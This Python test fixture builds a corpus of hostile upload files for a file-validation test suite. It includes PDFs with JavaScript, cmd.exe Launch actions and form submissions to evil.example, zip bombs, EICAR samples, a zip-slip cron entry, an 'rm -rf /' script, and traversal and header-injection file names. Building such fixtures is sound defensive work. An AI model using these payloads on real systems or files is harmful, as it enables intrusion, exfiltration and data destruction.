"""Hostile files, built from bytes by the tests (nothing downloaded): PDFs with active content of every kind,
malformed and pathological PDFs, polyglots, EICAR in several wrappers, zip bombs, renamed programs.

`corpus()` returns the whole set (at least 60) as (id, name, bytes, expectation) where the expectation is
one of "refused", "flagged", "infected" or "accepted" (a harmless file a path may accept or refuse by type).
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

# The EICAR anti-virus test file (https://www.eicar.org): harmless, detected by every scanner. Assembled
# from two halves so this source file is not itself flagged by a scanner reading the repository.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf_from(
    objects: list[bytes], *, root: bytes = b"1 0 R", header: bytes = b"", tail: bytes = b""
) -> bytes:
    """A PDF with a correct cross-reference table: object i+1 is objects[i]."""
    out = io.BytesIO()
    out.write(header + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue() + tail


def stream(data: bytes, extra: bytes = b"", compress: bool = True) -> bytes:
    body = zlib.compress(data, 9) if compress else data
    flt = b"/Filter /FlateDecode " if compress else b""
    return b"<< /Length %d %s%s>>\nstream\n" % (len(body), flt, extra) + body + b"\nendstream"


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R %s>>"
CONTENT = stream(b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET", compress=False)


def simple_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", more: list[bytes] | None = None) -> bytes:
    """Catalog 1, pages 2, content 3, page 4, then `more` as objects 5, 6, ..."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        CONTENT,
        PAGE % page_extra,
    ]
    return pdf_from(objects + (more or []))


def js_action(code: bytes = b"app.alert(1)") -> bytes:
    return b"<< /S /JavaScript /JS (" + code + b") >>"


def deep_next_chain(depth: int = 40) -> bytes:
    """/OpenAction -> GoTo -> /Next -> ... -> JavaScript at the end of a chain `depth` long."""
    more = [b"<< /S /GoTo /D [4 0 R /Fit] /Next %d 0 R >>" % (6 + i) for i in range(depth)]
    more.append(js_action(b"this.exportDataObject({cName:'x', nLaunch:2})"))
    return simple_pdf(b"/OpenAction 5 0 R ", more=more)


def slow_pdf(pages: int = 60, content_mib: int = 2) -> bytes:
    """Issue 15's 19 KB PDF: `pages` pages share one `content_mib` MiB content stream (minutes of pypdf)."""
    content = b"BT /F1 1 Tf " + b"(a) Tj 0 0 Td " * (content_mib * 1024 * 1024 // 14) + b"ET"
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
    ]
    objects += [b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", stream(content)]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
    objects += [page + b"/Contents 4 0 R >>"] * pages
    return pdf_from(objects)


def bomb_pdf(mib: int = 100) -> bytes:
    """A content stream that inflates to `mib` MiB (a decompression bomb)."""
    compressor = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    body = b"".join(compressor.compress(chunk) for _ in range(mib)) + compressor.flush()
    big = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", big]
    return pdf_from(objects + [PAGE % b""])


def eicar_pdf() -> bytes:
    """EICAR as an embedded file (uncompressed, so a scanner reading the bytes finds it)."""
    more = [b"<< /EmbeddedFiles << /Names [(eicar.com) 6 0 R] >> >>",
            b"<< /Type /Filespec /F (eicar.com) /EF << /F 7 0 R >> >>",
            stream(EICAR, b"/Type /EmbeddedFile ", compress=False)]  # fmt: skip
    return simple_pdf(b"/Names 5 0 R ", more=more)


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return out.getvalue()


CONTENT_TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 b'<Default Extension="xml" ContentType="application/xml"/></Types>')  # fmt: skip


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    members = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>"}
    return zip_of(members | (extra or {}))


def zip_bomb_docx(mib: int = 256) -> bytes:
    """A DOCX whose one member inflates to `mib` MiB from about 500 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        package.writestr("word/document.xml", b"<w:document/>")
        with package.open("word/media/bomb.bin", "w", force_zip64=True) as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(mib):
                member.write(chunk)
    return out.getvalue()


def png(extra: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    )


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\0" * 40
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 44 + b"\x80\0\0\0" + b"\0" * 64
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/me/').then(r=>r.text()).then(alert)</script></body></html>"
BIDI = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "invoice\u202efdp.exe" shows as "invoiceexe.pdf"


@functools.cache
def corpus() -> tuple[tuple[str, str, bytes, str], ...]:
    """Every hostile file once per session: (id, file name, bytes, expected outcome)."""
    ok = simple_pdf()
    files: list[tuple[str, str, bytes, str]] = []

    def add(ident: str, name: str, data: bytes, outcome: str) -> None:
        files.append((ident, name, data, outcome))

    # Active content of each kind: accepted (a served legal document is kept as served) and flagged.
    add("js-openaction", "js.pdf", simple_pdf(b"/OpenAction 5 0 R ", more=[js_action()]), "flagged")
    add("js-names-tree", "names.pdf", simple_pdf(b"/Names << /JavaScript 5 0 R >> ",
        more=[b"<< /Names [(a) 6 0 R] >>", js_action()]), "flagged")  # fmt: skip
    add("js-deep-next-chain", "chain.pdf", deep_next_chain(), "flagged")
    add("js-very-deep-next-chain", "chain2.pdf", deep_next_chain(400), "flagged")
    add(
        "js-page-aa",
        "page-aa.pdf",
        simple_pdf(page_extra=b"/AA << /O 5 0 R >> ", more=[js_action()]),
        "flagged",
    )
    add("js-annotation", "annot.pdf", simple_pdf(page_extra=b"/Annots [5 0 R] ",
        more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 6 0 R >>", js_action()]), "flagged")  # fmt: skip
    add("acroform-field-aa", "form.pdf", simple_pdf(b"/AcroForm << /Fields [5 0 R] >> ",
        more=[b"<< /FT /Tx /T (name) /AA << /K 6 0 R >> >>", js_action(b"event.rc=true")]), "flagged")  # fmt: skip
    add("xfa", "xfa.pdf", simple_pdf(b"/AcroForm << /Fields [] /XFA 5 0 R >> ",
        more=[stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")]), "flagged")  # fmt: skip
    add("embedded-exe", "embedded.pdf", simple_pdf(b"/Names << /EmbeddedFiles 5 0 R >> ", more=[
        b"<< /Names [(setup.exe) 6 0 R] >>", b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
        stream(MZ, b"/Type /EmbeddedFile ")]), "flagged")  # fmt: skip
    add("gotor", "gotor.pdf", simple_pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> "),
        "flagged")  # fmt: skip
    add("gotoe", "gotoe.pdf", simple_pdf(b"/OpenAction << /S /GoToE /T << /R /C /N (x) >> >> "), "flagged")
    add("submitform", "submit.pdf", simple_pdf(page_extra=b"/Annots [5 0 R] ", more=[
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /A << /S /SubmitForm /F "
        b"<< /FS /URL /F (http://evil.example/c) >> >> >>"]), "flagged")  # fmt: skip
    add("importdata", "import.pdf", simple_pdf(b"/OpenAction << /S /ImportData /F (x.fdf) >> "), "flagged")
    add("launch", "launch.pdf", simple_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> "),
        "flagged")  # fmt: skip
    add(
        "uri-openaction",
        "uri.pdf",
        simple_pdf(b"/OpenAction << /S /URI /URI (http://evil.example/t) >> "),
        "flagged",
    )
    add("uri-in-chain", "uri2.pdf", simple_pdf(b"/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next "
        b"<< /S /URI /URI (http://evil.example/t) >> >> "), "flagged")  # fmt: skip
    add("richmedia", "flash.pdf", simple_pdf(page_extra=b"/Annots [<< /Subtype /RichMedia /RichMediaContent "
        b"<< >> >>] "), "flagged")  # fmt: skip
    add("pdf-html-polyglot", "poly.pdf", pdf_from([b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", CONTENT, PAGE % b""], header=HTML + b"\n"), "flagged")  # fmt: skip
    add("pdf-html-in-comment", "poly2.pdf", ok.replace(b"%\xe2\xe3\xcf\xd3", b"%<html><script>alert(1)</script>"),
        "flagged")  # fmt: skip
    add("pdf-zip-polyglot", "polyzip.pdf", ok + zip_of({"evil.js": b"alert(1)"}), "flagged")
    add("png-html-polyglot", "image.png", png(b"\0\0\0\x20tEXt" + HTML[:32] + b"xxxx"), "flagged")
    add("docx-macros", "macro.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}), "flagged")
    add("docx-external", "ext.docx", docx({"word/_rels/document.xml.rels":
        b'<Relationships><Relationship Target="http://evil.example/x" TargetMode="External"/></Relationships>'}),
        "flagged")  # fmt: skip
    # Malformed PDFs (issue 15 item 6): refused as damaged, or read and accepted; never a server error.
    add("annots-bad-array", "annots.pdf", simple_pdf(page_extra=b"/Annots [5 /Foo] "), "any")
    add("annots-dict", "annots2.pdf", simple_pdf(page_extra=b"/Annots << /Foo 1 >> "), "any")
    add("root-integer", "root.pdf", pdf_from([b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>"], root=b"5"), "refused")  # fmt: skip
    add(
        "root-dangling",
        "root2.pdf",
        pdf_from([b"<< /Type /Pages /Kids [] /Count 0 >>"], root=b"9 0 R"),
        "refused",
    )
    add("pages-loop", "loop.pdf", pdf_from([b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]), "any")  # fmt: skip
    add("truncated", "cut.pdf", ok[: len(ok) // 2], "any")
    add("header-only", "header.pdf", b"%PDF-1.7\n", "refused")
    add("garbage-after-header", "junk.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 40, "refused")
    add("bad-xref", "xref.pdf", ok.replace(b"startxref\n", b"startxref\n999999"), "any")
    add("encrypted", "locked.pdf", _encrypted(), "refused")
    add("slow-content", "slow.pdf", slow_pdf(), "refused")
    add("decompression-bomb", "bomb.pdf", bomb_pdf(), "any")
    add("deep-nesting", "nest.pdf", simple_pdf(b"/X " + b"[" * 5000 + b"]" * 5000 + b" "), "any")
    add("huge-object-count", "many.pdf", simple_pdf(b"/X [" + b" ".join(b"%d 0 R" % (5 + i) for i in range(1000))
        + b"] ", more=[b"<< /N %d >>" % i for i in range(1000)]), "accepted")  # fmt: skip
    # Archives and bombs.
    add("zip-bomb-docx", "report.docx", zip_bomb_docx(), "refused")
    add("zip-plain", "archive.zip", zip_of({"a.txt": b"hello"}), "refused")
    add("zip-renamed-docx", "fake.docx", zip_of({"a.txt": b"hello"}), "refused")
    add("zip-slip-docx", "slip.docx", docx({"../../../../etc/cron.d/x": b"* * * * * root id"}), "any")
    # Malware (ClamAV with the locally built EICAR signature).
    add("eicar-plain", "notes.txt", EICAR, "infected")
    add("eicar-csv", "calls.csv", EICAR + b"\r\n", "infected")
    add("eicar-pdf", "eicar.pdf", eicar_pdf(), "infected")
    add("eicar-docx", "eicar.docx", docx({"word/media/eicar.com": EICAR}), "infected")
    add("eicar-zip", "eicar.zip", zip_of({"eicar.com": EICAR}), "infected")
    add("eicar-png-named", "eicar.png", EICAR, "infected")
    # Programs and wrong magic.
    add("exe-as-pdf", "invoice.pdf", MZ, "refused")
    add("elf-as-wav", "call.wav", ELF, "refused")
    add("exe-as-docx", "letter.docx", MZ, "refused")
    add("script-as-txt", "run.txt", b"#!/bin/sh\nrm -rf /\x00", "refused")
    add("html-as-pdf", "page.pdf", HTML, "any")  # text: a TXT attachment where text is accepted
    add("html-as-png", "pic.png", HTML, "any")
    add("gif-as-png", "anim.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "refused")
    add("png-as-pdf", "scan.pdf", png(), "any")  # a PNG where images are accepted
    add("jpeg-truncated", "photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "any")
    add("utf16-text", "notes.txt", "hello".encode("utf-16"), "refused")
    add("empty", "empty.pdf", b"", "refused")
    add("empty-txt", "empty.txt", b"", "refused")
    # Names: bidirectional overrides and traversal are stripped from what is stored and served.
    add("bidi-name", f"invoice{BIDI}fdp.exe", ok, "accepted")
    add("bidi-name-txt", f"notes{BIDI}txt.exe", b"plain text\n", "any")
    add("traversal-name", "../../../etc/passwd.pdf", ok, "accepted")
    add("windows-traversal-name", "..\\..\\boot.ini.pdf", ok, "accepted")
    add("control-char-name", "a\r\nContent-Type: text/html\r\n.pdf", ok, "accepted")
    add("long-name", "x" * 400 + ".pdf", ok, "accepted")
    return tuple(files)


def _encrypted() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
